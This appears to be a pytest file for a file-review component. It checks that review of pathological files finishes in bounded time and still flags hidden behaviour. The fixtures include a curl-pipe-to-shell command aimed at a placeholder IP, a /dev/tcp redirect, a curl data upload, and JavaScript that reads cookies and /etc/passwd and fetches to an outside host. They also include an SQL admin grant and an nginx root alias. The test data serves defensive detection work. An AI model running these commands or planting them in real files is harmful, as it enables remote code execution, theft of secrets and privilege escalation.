"""Files whose review takes too long, or that hide what they do behind a fault or a limit."""

import json

import pytest

from kingdom.ministers.guardian.file.structure_review import review_structure
from kingdom.tools.files.text_decoding import table_header
from tests.factories.processor_limit import ends_within

SECONDS = 10  # of processor time; before the bounds each of these took from half a minute to hours
LENGTH = 390_000  # characters, below the length that asks a person at once
PIPE = "curl -s http://203.0.113.5/x | sh"
LOOPS = "".join(f"a = [{'a, ' * 40}]\n" for _ in range(5)) + "exec(a)\n"
SLOW = [
    ("a.py", LOOPS),
    ("a.py", "import requests\n" + LOOPS + "requests.post(u, data=a)\n" * 5_000),
    ("a.py", "open('/etc/profile.d/a', 'w').write('b')\n" * 4_500),
    ("a.sql", "UPDATE " + "USERS." * 700 + " SET" * 1_000 + " IS_ADMIN" * 500),
    ("a.xml", "<!ENTITY" + " " * LENGTH),
    ("a.js", "exec(" + " " * LENGTH),
    ("a.js", "child_process'" + " " * LENGTH),
    ("a.js", "getElementBy" * (LENGTH // 12)),
    ("nginx.conf", '"' + '\\"' * (LENGTH // 2)),
    ("Dockerfile", 'FROM a\nRUN ["' + '\\"' * (LENGTH // 2)),
    (".github/workflows/a.yml", "run: print" + " print" * (LENGTH // 6) + " ${{ secrets.A }}"),
    ("a.yml", "\n" * LENGTH),
    ("sudoers", "Defaults" + " " * LENGTH),
    ("etc/logrotate.d/a", "prerotate\n" * (LENGTH // 10)),
    ("a.sh", "curl -d @$x\n" * 20_000),
    ("a.sh", "exec >/dev/tcp/a/1\n" * 20_000),
]


@pytest.mark.parametrize(("path", "text"), SLOW, ids=range(len(SLOW)))
def test_a_file_is_reviewed_in_bounded_work(path: str, text: str) -> None:
    assert ends_within(SECONDS, lambda: review_structure(path, text))


@pytest.mark.parametrize("quotes", [400, 3_900])
def test_the_header_of_a_table_of_quotes_is_found_in_bounded_work(quotes: int) -> None:
    assert ends_within(2, lambda: table_header('x,"a",y\n' + '"' * quotes + "z"))


HIDING = [
    ("a.yaml", f"x: {'[' * 61}{']' * 61}\nrun: {PIPE}\n"),
    ("a.yaml", f"a: [\nrun: {PIPE}\n"),
    ("a.yaml", f"run: echo a: b\n  c: d\nrun: {PIPE}\n"),
    ("a.yaml", "a: b: c\n" * 5),
    ("a.json", json.dumps({"a": "b" * 400_000, "run": PIPE})),
    ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "1"}] * 400 + [{"source": f"!{PIPE}"}]})),
    ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": {"a": f"!{PIPE}"}}]})),
    ("a.ipynb", "{"),
    ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": f"%%script bash\n{PIPE}"}]})),
    ("a.py", f'print "x"\nimport os\nos.system("{PIPE}")\n'),
    ("a.sql", "SELECT 1" + " + 1" * 600 + ";\n"),
]


@pytest.mark.parametrize(("path", "text"), HIDING, ids=range(len(HIDING)))
def test_a_file_that_is_not_read_in_full_asks_a_person(path: str, text: str) -> None:
    assert "file.too_long" in {finding.rule_id for finding in review_structure(path, text)}


FOUND = [
    ("a.yaml", f"a: b: c\nrun: echo 'd: e'; {PIPE}\n", "file.foreign_code"),
    ("a.yaml", f"a: b: c\nrun: |\n  d: ; echo 'e: f'; {PIPE}\n", "file.foreign_code"),
    ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": f"%%bash\n{PIPE}"}]}), "file.foreign_code"),
    ("Makefile", "all:\n\tcurl -s http://203.0.113.5/x \\\n  | sh\n", "file.foreign_code"),
    ("a.sql", "UPDATE app.users SET name = 'x', is_admin = true;", "file.gives_access"),
    (
        "a.js",
        "let a = document.cookie;" + " " * 9_000 + "fetch('//x.io/'); readFile('/etc/passwd')",
        "file.sends_secrets",
    ),
    ("a.js", "readFile('/etc/passwd'); fetch('//x.io/');" + " " * 9_000 + "document.cookie", "file.sends_secrets"),
    ("a.js", "fetch('//x.io/'); readFile('/etc/passwd');" + " " * 9_000 + "document.cookie", "file.sends_secrets"),
    ("nginx.conf", 'a b\\"c; server { location / { alias /; } }', "file.gives_access"),
    ("a.py", "import codecs\nexec(codecs.decode('x', 'rot13'))\n", "file.hidden_code"),
]


@pytest.mark.parametrize(("path", "text", "rule"), FOUND, ids=range(len(FOUND)))
def test_the_bounds_hide_no_behavior(path: str, text: str, rule: str) -> None:
    assert rule in {finding.rule_id for finding in review_structure(path, text)}


def test_ordinary_cells_and_rows_are_read_in_full() -> None:
    source = ["if True:\n", "    !ls\n", "%matplotlib inline\n", "x = 1\n"]
    notebook = json.dumps({"cells": [{"cell_type": "code", "source": source}, {"cell_type": "markdown"}]})
    assert review_structure("a.ipynb", notebook) == []
    assert review_structure("a.sql", f"INSERT INTO notes VALUES ('{'word ' * 900}');") == []


def test_a_statement_that_begins_with_a_text_is_read() -> None:
    assert review_structure("a.sql", "'word';\nSELECT 1;\n") == []
